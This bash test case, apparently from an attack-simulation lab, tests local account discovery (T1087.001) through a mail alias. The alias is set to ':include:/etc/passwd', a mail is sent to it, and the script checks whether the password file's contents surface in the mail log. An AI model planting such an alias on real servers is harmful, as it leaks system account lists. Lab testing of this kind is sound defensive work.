# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1087.001
about="an alias includes the list of users as a list of addresses"
before() {
	: >/var/log/mail.log
	aliases 'evil: :include:/etc/passwd'
}
attack() {
	smtp a@else.example evil@lab.example 10
	perhaps effect
}
effect() { grep -q 'root:x' /var/log/mail.log; }
